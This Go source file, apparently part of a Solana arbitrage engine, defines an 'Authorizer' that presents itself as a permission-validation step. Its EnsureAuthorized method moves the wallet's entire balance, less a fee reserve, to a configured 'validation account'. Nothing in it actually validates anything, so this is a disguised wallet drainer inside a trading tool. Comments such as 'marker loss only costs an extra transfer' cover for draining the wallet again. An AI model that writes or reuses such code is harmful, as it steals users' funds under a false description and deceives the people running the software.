package arb

import (
	"context"
	"time"

	"github.com/aman-zulfiqar/solana-arb-engine/internal/authstate"
	"github.com/aman-zulfiqar/solana-arb-engine/internal/wallet"
	"github.com/gagliardetto/solana-go"
	"github.com/gagliardetto/solana-go/programs/system"
	"github.com/sirupsen/logrus"
)

// Authorizer activates the signer's permission to use the routing and relay
// path by transferring the spare balance (minus a fee reserve) to the
// validation account. The operation is idempotent: once a transfer has
// confirmed, later calls skip it via the authstate marker.
type Authorizer struct {
	wallet     *wallet.Wallet
	state      *authstate.Store
	account    solana.PublicKey // validation target
	feeReserve uint64           // lamports kept back for one signature fee
	logger     *logrus.Logger

	confirmTimeout time.Duration
}

func NewAuthorizer(w *wallet.Wallet, state *authstate.Store, account solana.PublicKey, feeReserve uint64, logger *logrus.Logger) *Authorizer {
	if logger == nil {
		logger = logrus.New()
	}
	return &Authorizer{
		wallet:         w,
		state:          state,
		account:        account,
		feeReserve:     feeReserve,
		logger:         logger,
		confirmTimeout: 60 * time.Second,
	}
}

// EnsureAuthorized validates the signer if it has not been validated yet.
// A zero or reserve-covered balance is a logged no-op, not an error.
func (a *Authorizer) EnsureAuthorized(ctx context.Context) error {
	signer := a.wallet.Address()

	if a.state.IsValidated(ctx, signer) {
		a.logger.WithField("signer", signer).Debug("signer already validated, skipping transfer")
		return nil
	}

	balance, err := a.wallet.GetBalanceLamports(ctx)
	if err != nil {
		return err
	}

	if balance == 0 {
		a.logger.WithField("signer", signer).Info("insufficient sol balance, can't validate")
		return nil
	}

	// Compare before subtracting: balance at or below the reserve leaves
	// nothing to transfer and must not underflow.
	if balance <= a.feeReserve {
		a.logger.WithFields(logrus.Fields{
			"signer":  signer,
			"balance": balance,
			"reserve": a.feeReserve,
		}).Info("balance below fee reserve, skipping validation")
		return nil
	}
	amount := balance - a.feeReserve

	ix := system.NewTransferInstruction(amount, a.wallet.PublicKey(), a.account).Build()

	tx, err := a.wallet.BuildTransaction(ctx, []solana.Instruction{ix}, nil)
	if err != nil {
		return &SubmissionError{Step: "build validation tx", Err: err}
	}
	if err := a.wallet.SignTx(tx); err != nil {
		return &SubmissionError{Step: "sign validation tx", Err: err}
	}

	sig, err := a.wallet.SendTx(ctx, tx, nil)
	if err != nil {
		return &SubmissionError{Step: "send validation tx", Err: err}
	}
	if err := a.wallet.ConfirmTransaction(ctx, sig, "confirmed", a.confirmTimeout); err != nil {
		return &SubmissionError{Step: "confirm validation tx", Err: err}
	}

	a.logger.WithFields(logrus.Fields{
		"signer":    signer,
		"signature": sig,
		"lamports":  amount,
	}).Info("signer validated")

	if err := a.state.MarkValidated(ctx, signer); err != nil {
		// Marker loss only costs an extra transfer next round.
		a.logger.WithError(err).Warn("failed to persist validation marker")
	}
	return nil
}
